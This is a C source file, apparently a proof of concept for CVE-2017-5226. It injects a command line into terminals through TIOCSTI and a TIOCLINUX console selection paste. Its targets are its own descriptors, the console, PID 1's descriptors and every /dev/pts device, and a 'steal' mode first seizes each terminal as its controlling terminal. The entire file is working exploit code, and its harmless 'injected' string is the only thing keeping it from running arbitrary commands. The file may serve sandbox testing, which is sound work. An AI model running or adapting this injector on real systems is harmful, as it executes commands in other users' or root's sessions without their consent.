/*
 * CVE-2017-5226: puts a command line into the input of every terminal that it can open, by TIOCSTI, and by the selection of the console
 * (TIOCLINUX of ioctl_console(2)). "steal": it also makes each its controlling terminal first. "own": only its own descriptors, because
 * root of the host can open the terminals of all users.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(int terminal, int steal) {
	if (steal && setsid() >= 0) ioctl(terminal, TIOCSCTTY, 1);
	for (const char *word = "injected\n"; *word != '\0'; word++) ioctl(terminal, TIOCSTI, word);
	struct {
		char unused, code;
		unsigned short from_x, from_y, to_x, to_y, mode;
	} __attribute__((packed)) selection = {0, 2, 1, 1, 20, 1, 0};
	ioctl(terminal, TIOCLINUX, &selection.code);
	char paste = 3;
	ioctl(terminal, TIOCLINUX, &paste);
}

int main(int argc, char **argv) {
	int steal = argc > 1 && strcmp(argv[1], "steal") == 0;
	for (int descriptor = 0; descriptor < 16; descriptor++) inject(descriptor, steal);
	if (argc > 1 && strcmp(argv[1], "own") == 0) return 0;
	const char *names[] = {"/dev/tty", "/dev/console", "/dev/ptmx", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", NULL};
	for (const char **name = names; *name != NULL; name++) {
		int terminal = open(*name, O_RDWR | O_NOCTTY | O_NONBLOCK);
		if (terminal >= 0) inject(terminal, steal), close(terminal);
	}
	DIR *list = opendir("/dev/pts");
	for (struct dirent *entry; list != NULL && (entry = readdir(list)) != NULL;) {
		char path[300];
		snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
		int terminal = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
		if (terminal >= 0) inject(terminal, steal), close(terminal);
	}
	return 0;
}
